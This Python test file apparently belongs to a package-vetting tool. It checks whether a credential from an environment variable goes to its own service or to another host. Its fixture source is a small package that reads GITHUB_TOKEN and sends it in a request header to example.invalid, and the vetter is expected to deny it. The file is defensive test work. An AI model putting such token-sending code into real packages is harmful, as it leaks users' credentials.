"""The credential rule of ADR 0067 on its own: which service a variable names, which name a
host's owner registered, and what a sink's signed-in marks become."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.signedaway import AWAY
from airlock.imports.packages.signin import SIGNED, registered, service_of, settle, signed
from airlock.imports.packages.sinks import ENV, SECRET
from airlock.imports.packages.vet import VetReport, vet
from scripts.make_test_packages import wheel


@pytest.mark.parametrize(
    ("shape", "service"),
    [
        ("Bearer $GITHUB_API_TOKEN", "github"),
        ("$HUGGINGFACE_TOKEN", "huggingface"),
        ("token $MY_API_TOKEN", ""),
        ("$TOKEN", ""),
        ("no variable", ""),
    ],
)
def test_the_service_a_variable_names(shape: str, service: str) -> None:
    assert service_of(shape) == service


@pytest.mark.parametrize(
    ("host", "owner"),
    [
        ("api.github.com", "github"),
        ("github.com", "github"),
        ("x.example.co.uk", "example"),
        ("github.com.example", "com"),
        ("github.example.invalid", "example"),
        ("127.0.0.1", ""),
        ("localhost", ""),
    ],
)
def test_the_name_a_hosts_owner_registered(host: str, owner: str) -> None:
    assert registered(host) == owner


def test_a_signed_credential_to_its_service_carries_nothing_and_elsewhere_a_secret() -> None:
    labels = signed(frozenset({ENV}), "Bearer $GITHUB_TOKEN")
    assert labels == {SIGNED + "github"}
    assert settle("network", "https://api.github.com/repos", labels) == frozenset()
    assert settle("network", "https://example.invalid/?u=https://api.github.com", labels) == {
        SECRET
    }
    # To a host the request does not name: still a secret, marked as no file's (ADR 0139).
    assert settle("network", "", labels) == {SECRET, AWAY}
    assert settle("process", "curl", labels) == {ENV}


def _vet_init(text: str) -> VetReport:
    return vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", {"evpkg/__init__.py": text}))


HEADED = (
    "import os\nfrom urllib.request import Request, urlopen\nr = Request('{url}')\n"
    "r.add_header('{header}', 'token ' + os.environ['GITHUB_TOKEN'])\nurlopen(r)\n"
)


def test_a_header_added_to_a_request_carries_the_credential_it_is_given() -> None:
    """``add_header`` carried nothing: a token sent in any header was plain traffic."""
    away = HEADED.format(url="https://example.invalid/x", header="X-Data")
    assert _vet_init(away).verdict is Outcome.DENY
    stolen = HEADED.format(url="https://example.invalid/x", header="Authorization")
    assert _vet_init(stolen).verdict is Outcome.DENY
    signing_in = HEADED.format(url="https://api.github.com/user", header="Authorization")
    assert _vet_init(signing_in).verdict is not Outcome.DENY
